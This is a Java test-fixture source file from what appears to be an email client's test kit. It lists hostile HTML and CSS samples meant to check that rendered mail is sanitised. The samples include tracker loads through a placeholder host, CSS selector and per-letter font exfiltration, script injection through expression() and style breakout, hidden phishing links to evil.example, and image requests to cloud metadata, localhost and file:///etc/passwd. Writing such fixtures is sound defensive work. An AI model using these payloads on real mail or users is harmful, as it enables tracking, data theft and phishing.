package hexmail.testkit.hostile;

import java.util.List;
import java.util.stream.Stream;

/// HTML that loads something, tells that it is read, or leaves its place by its style.
final class HostileStyles {
  private static final List<HostileSample> STYLES =
      List.of(
          new HostileSample(
              "style sheets from elsewhere",
              "<style>@import '{tracker}/a.css';@import url({tracker}/b.css) screen;p{color:#123}</style><p>seen</p>"),
          new HostileSample(
              "pictures behind text",
              "<p style='background:url({tracker}/bg)'>seen</p><style>p{background-image:url(\"{tracker}/bg2\")}div{background:#fff url({tracker}/bg3) no-repeat}</style><div>x</div>"),
          new HostileSample(
              "pictures in other properties",
              "<ul style='list-style-image:url({tracker}/ls)'><li style='list-style:url({tracker}/l2)'>seen</li></ul><p style='cursor:url({tracker}/c),auto;border-image:url({tracker}/bi) 1;mask:url({tracker}/m);filter:url({tracker}/f#x);clip-path:url({tracker}/cp);shape-outside:url({tracker}/so)'>x</p>"),
          new HostileSample(
              "pictures by other functions",
              "<p style='background:image-set(\"{tracker}/is\" 1x);background-image:image({tracker}/im);background:-webkit-image-set(url({tracker}/wk) 1x);background:cross-fade(url({tracker}/cf),red);background:src(\"{tracker}/src\")'>seen</p>"),
          new HostileSample(
              "a value that is read out",
              "<style>a[href^='https://a']{background:url({tracker}/q?a)}input[value^=a]{background:url({tracker}/v)}a:visited{background:url({tracker}/vi)}</style><a href='https://a.example/secret'>seen</a>"),
          new HostileSample(
              "a font for each letter",
              "<style>@font-face{font-family:x;src:url({tracker}/A);unicode-range:U+0041}p{font-family:x}</style><p>SEEN seen A</p>"),
          new HostileSample(
              "text that a style adds",
              "<style>p::before{content:url({tracker}/ct)}p::after{content:'added'}</style><p>seen</p>"),
          new HostileSample(
              "scripts in styles",
              "<p style='width:expression({run})'>seen</p><p style='behavior:url(x.htc)'>b</p><p style='-moz-binding:url({tracker}/x.xml#y)'>c</p><p style='background:url(javascript:{run})'>d</p>"),
          new HostileSample(
              "a property with an escape",
              "<p style='b\\61 ckground:url({tracker}/e1);background:u\\72l({tracker}/e2);background:/**/url/**/({tracker}/e3)'>seen</p><p style='--x:url({tracker}/e4);background:var(--x)'>b</p>"),
          new HostileSample(
              "a style that ends early",
              "<p style=\"color:red}</style><script>{run}</script>\">seen</p><style>p{color:red</style><img src=x onerror={run}><style></style>"),
          new HostileSample(
              "a cover over the page",
              "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red'>seen</div><style>html,body,iframe{position:fixed!important;top:-500px}</style>"),
          new HostileSample(
              "a box that leaves its place",
              "<div style='margin:-500px;width:5000px;height:100px;background:red'>seen</div><p style='text-indent:-9999px;transform:translate(-900px,-900px) scale(99);translate:9px;rotate:9deg;inset:0'>b</p>"),
          new HostileSample(
              "a size without end",
              "<div style='width:99999999px;height:99999999px'>seen</div><table width=99999999 height=99999999><tr><td style='padding:99999px'>b</td></tr></table><img width=99999 height=99999 src='data:image/png;base64,iVBORw0KGgo='>"),
          new HostileSample(
              "a height of the frame",
              "<div style='height:200vh;min-height:300dvh'>seen</div><div style='height:calc(100% + 10px)'>b</div>"),
          new HostileSample(
              "letters without end",
              "<p style='font-size:99999px;line-height:9999'>seen</p><p style='letter-spacing:99999px;word-spacing:-9999px'>b</p><font size=99>c</font>"),
          new HostileSample(
              "a note that is hidden",
              "<div style='font-size:0;line-height:0;letter-spacing:-99px;height:0;overflow:hidden'></div><div style='font-size:0;color:#fff'><a href='https://evil.example/' style='font-size:16px'>www.bank.example</a></div>seen"),
          new HostileSample(
              "a style of ours",
              "<style>.hexmail-site{display:none!important}.mail{height:1px}</style><a class='hexmail-site skip' href='https://evil.example/'>www.bank.example</a><span class=hexmail-picture>seen</span>"),
          new HostileSample(
              "colours that hide",
              "<p style='color:#fff;background:#fff'>white</p><p style='opacity:.01;visibility:collapse;clip:rect(0,0,0,0)'>b</p>seen"),
          new HostileSample(
              "movement",
              "<style>@keyframes a{from{margin-left:0}to{margin-left:900px}}p{animation:a 1s infinite;transition:all 9s}</style><p>seen</p><blink>b</blink>"));

  private static final List<HostileSample> TRACKERS =
      List.of(
          new HostileSample(
              "pictures of every kind",
              "<img src='{tracker}/1.png' alt=seen srcset='{tracker}/2.png 2x' lowsrc='{tracker}/3' dynsrc='{tracker}/4' longdesc='{tracker}/5' usemap='#m'><picture><source srcset='{tracker}/6'><img src='{tracker}/7.png' alt=two></picture><input type=image src='{tracker}/8'><video poster='{tracker}/9'></video>"),
          new HostileSample(
              "pictures behind tables",
              "<body background='{tracker}/1'><table background='{tracker}/2'><tr background={tracker}/3><td background='{tracker}/4'>seen</td></tr></table>"),
          new HostileSample(
              "pictures that nobody sees",
              "<img src='{tracker}/1.gif' width=1 height=1><img src={tracker}/2.gif style='display:none'><div hidden><img src={tracker}/3.gif></div><img src={tracker}/4.gif height=0>seen"),
          new HostileSample(
              "addresses that a click tells",
              "<a href='https://a.example/' ping='{tracker}/ping' attributionsrc='{tracker}/as'>seen</a><blockquote cite='{tracker}/cite'>b</blockquote><q cite='{tracker}/q'>c</q><ins cite='{tracker}/ins'>d</ins>"),
          new HostileSample(
              "addresses of this machine",
              "<img src='http://169.254.169.254/latest/meta-data/' alt=seen><img src='http://localhost/admin'><img src='//127.0.0.1/x'><img src='file:///etc/passwd'><img src='ftp://127.0.0.1/x'><img src='\\\\127.0.0.1\\share\\x.png'>"),
          new HostileSample(
              "a picture of this site",
              "<img src='/logout' alt=seen><img src='/u/0/mail/x/body?pictures=1'><img src='?retry=1'><img src='parts/1'>"));

  private HostileStyles() {}

  static Stream<HostileSample> all() {
    return Stream.of(STYLES, TRACKERS).flatMap(List::stream);
  }
}
